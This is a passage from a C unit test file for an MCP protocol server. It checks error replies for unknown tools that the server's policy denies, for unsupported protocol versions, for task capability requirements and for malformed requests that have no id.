		doc = parse_reply(&reply);
		assert_int_equal(json_object_get(doc, "result") != NULL, !i);
		assert_int_equal(
			json_integer_value(json_object_get(
				json_object_get(doc, "error"), "code")),
			i ? MCP_ERR_PARAMS : 0);
		json_decref(doc);
		mcp_request_done(&r);
		buf_done(&reply);
	}
}

/* No tool of the policy's: an error of the protocol. */
static void test_unknown_tool(void **state)
{
	const struct m_call_result unknown = {
		.verdict = VERDICT_DENY,
		.clause = SPAN_LIT(CLAUSE_NO_CAPABILITY "\"x\""),
		.reason = SPAN_LIT("the policy has no capability \"x\"")
	};
	struct mcp m = { .version = MCP_2025_11_25 };
	json_t *doc = ask(&m, CALL("{\"name\":\"x\"}"), &unknown, 1);
	const json_t *e = json_object_get(doc, "error");

	(void)state;
	assert_int_equal(json_integer_value(json_object_get(e, "code")),
			 MCP_ERR_PARAMS);
	assert_string_equal(text_in(e, "message"),
			    "the policy has no capability \"x\"");
	json_decref(doc);
}

/* What errors of 2026-07-28 say beside their text. */
static void test_error_data(void **state)
{
	struct mcp m = { 0 };
	json_t *doc = ask(&m, CALL("{" META("1900-01-01", "{}") "}"), NULL, 0);
	const json_t *v =
		json_object_get(json_object_get(doc, "error"), "data");

	(void)state;
	assert_string_equal(text_in(v, "requested"), "1900-01-01");
	v = json_object_get(v, "supported");
	assert_int_equal(json_array_size(v), 1);
	assert_string_equal(json_string_value(json_array_get(v, 0)),
			    "2026-07-28");
	json_decref(doc);
	doc = ask(&m, REQ("tasks/get", "{" NOW "}"), NULL, 0);
	v = json_object_get(
		json_object_get(json_object_get(doc, "error"), "data"),
		"requiredCapabilities");
	assert_true(json_is_object(
		json_object_get(json_object_get(v, "extensions"), MCP_TASKS)));
	json_decref(doc);
}

/* One that cannot be read has no id, and so has none its answer. */
static void test_no_id(void **state)
{
	static const char *const lines[] = { "x", "[]",
					     "{\"id\":null,\"jsonrpc\":\"2.0\","
					     "\"method\":\"ping\"}" };
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(lines); i++) {
		struct mcp m = { 0 };
		struct mcp_request r;
		struct buf reply;
		json_t *doc;

		buf_init(&reply, 4096);
		mcp_read(&m, span_str(lines[i]), &r, &reply);
		doc = json_loadb((const char *)reply.p, reply.n, 0, NULL);
		assert_non_null(json_object_get(doc, "error"));
		assert_null(json_object_get(doc, "id"));
		json_decref(doc);
		mcp_request_done(&r);
		buf_done(&reply);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rows),
		cmocka_unit_test(test_types),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_depth),
		cmocka_unit_test(test_versions),
		cmocka_unit_test(test_call_replies),
		cmocka_unit_test(test_tools_reply),
		cmocka_unit_test(test_tasks),
		cmocka_unit_test(test_tickets),
		cmocka_unit_test(test_refusals),
		cmocka_unit_test(test_unknown_tool),
		cmocka_unit_test(test_error_data),
		cmocka_unit_test(test_no_id),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
